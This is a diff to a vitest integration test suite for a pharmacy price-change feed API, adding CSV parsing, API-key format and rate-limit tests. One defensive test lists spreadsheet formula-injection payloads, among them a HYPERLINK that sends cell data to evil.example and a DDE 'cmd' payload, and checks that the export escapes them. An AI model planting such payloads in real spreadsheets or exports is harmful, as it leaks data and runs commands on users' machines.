@@ -1,9 +1,42 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { messages } from '../../server/http/messages';
 import { applyMedicineChange } from '../../server/service/medicine-change';
+import { defaultLimits } from '../../server/service/types';
 import { backends, startServer, type TestServer } from './harness';
 import { holdPriceWriter, staffUser, untilPriceLockQueued } from './ops-helpers';
 
 type Entry = { cursor: string; category: string; medicineId: string; price: number; kind: string };
+
+/** The rows of a CSV text (RFC 4180: quoted cells may hold commas, quotes and line breaks). */
+function csvRows(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted && c === '"' && text[i + 1] === '"') {
+      cell += '"';
+      i++;
+    } else if (quoted) {
+      if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"') {
+      quoted = true;
+    } else if (c === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (c === '\r' && text[i + 1] === '\n') {
+      rows.push([...row, cell]);
+      row = [];
+      cell = '';
+      i++;
+    } else {
+      cell += c;
+    }
+  }
+  return rows;
+}
 
 // behaviour §10.12: pharmacy software pulls the price entries published after its cursor.
 describe.each(backends)('the price change feed, on $name', (backend) => {
@@ -42,7 +75,8 @@ describe.each(backends)('the price change feed, on $name', (backend) => {
     });
 
   it('keys are shown once and kept hashed; a revoked key is refused at once', async () => {
-    expect(key).toMatch(/^drb_/);
+    // 32 random bytes, base64url (docs/security.md).
+    expect(key).toMatch(/^drb_[A-Za-z0-9_-]{43}$/);
     const list = await s.call('listApiKeys', { token: pharmacy.token });
     expect(list.json.docs).toHaveLength(1);
     expect(JSON.stringify(list.json)).not.toContain(key);
@@ -134,5 +168,78 @@ describe.each(backends)('the price change feed, on $name', (backend) => {
     expect(new Set(seen).size).toBe(seen.length);
     const imported = await s.sql<{ n: number }>(`SELECT count(*)::int AS n FROM price_entries WHERE import_id = $1`, [importId]);
     expect(imported[0]!.n).toBe(5);
+  });
+
+  it("CSV: a name a spreadsheet would run as a formula is written as text, as the pharmacist's export writes it", async () => {
+    const dangerous = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"برای دیدن کلیک کنید")',
+      "+1+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\t=1+2',
+      '\r=1+2',
+    ];
+    const target = meds[7]!;
+    for (const [i, text] of dangerous.entries()) {
+      await s.sql(`UPDATE medicines_b SET brand_name_fa = $1 WHERE id = $2`, [text, target.id]);
+      const before = (await feed({ limit: 1000 })).json.next as string;
+      await hand(7, target.price + 30 + i);
+      const csv = await feed({ since: before, format: 'csv' });
+      expect(csv.status).toBe(200);
+      const [header, row] = csvRows(csv.response.body);
+      expect(row![header!.indexOf('name')], JSON.stringify(text)).toBe(`'${text}`);
+    }
+  });
+});
+
+// behaviour §12: the feed is rate-limited per client network and per key, on an injected clock.
+describe.each(backends)('the change feed is rate-limited, on $name', (backend) => {
+  let s: TestServer;
+  let now = Date.parse('2026-06-01T08:00:00Z');
+  let keys: string[];
+  beforeAll(async () => {
+    s = await startServer(backend, { clock: () => new Date(now) });
+    const pharmacy = await s.newUser();
+    keys = [];
+    for (let i = 0; i < 3; i++) keys.push((await s.call('createApiKey', { token: pharmacy.token, body: { name: `کلید ${i}` } })).json.key);
+  });
+  afterAll(async () => {
+    await s?.close();
+  });
+  const feed = (key: string | undefined, ip: string) =>
+    s.call('feedPriceChanges', { query: { limit: 1 }, headers: key ? { 'x-api-key': key } : {}, ip });
+
+  it(`one key: ${defaultLimits.feedPerKey} calls in ${defaultLimits.rateWindowSeconds / 60} minutes, from any addresses; then 429 with Retry-After until the window ends`, async () => {
+    for (let i = 0; i < defaultLimits.feedPerKey; i++) expect((await feed(keys[0], `198.51.${i % 4}.${i}`)).status).toBe(200);
+    const refused = await feed(keys[0], '192.0.2.99');
+    expect(refused.status).toBe(429);
+    expect(refused.json.message).toBe(messages.feed.tooManyCalls);
+    const retryAfter = Number(refused.response.headers['retry-after']);
+    expect(retryAfter).toBeGreaterThan(0);
+    expect(retryAfter).toBeLessThanOrEqual(defaultLimits.rateWindowSeconds);
+    // Another key of the same pharmacy is counted apart.
+    expect((await feed(keys[1], '192.0.2.99')).status).toBe(200);
+    now += retryAfter * 1000;
+    expect((await feed(keys[0], '192.0.2.99')).status).toBe(200);
+  });
+
+  it(`one client network: ${defaultLimits.feedPerIp} calls in the window, whatever the keys (a missing or wrong one too)`, async () => {
+    now += defaultLimits.rateWindowSeconds * 1000;
+    const ip = '203.0.113.5';
+    let answered = 0;
+    for (let i = 0; i < defaultLimits.feedPerIp; i++) {
+      const key = i % 10 === 9 ? (i % 20 === 19 ? undefined : 'drb_made-up') : keys[i % 3];
+      const res = await feed(key, ip);
+      expect(res.status, `call ${i + 1}`).not.toBe(429);
+      answered++;
+    }
+    expect(answered).toBe(defaultLimits.feedPerIp);
+    for (const key of [keys[2], 'drb_made-up', undefined]) {
+      const refused = await feed(key, ip);
+      expect(refused.status).toBe(429);
+      expect(refused.json.message).toBe(messages.feed.tooManyCalls);
+    }
+    // Its neighbour is another network.
+    expect((await feed(keys[2], '203.0.113.6')).status).toBe(200);
   });
 });
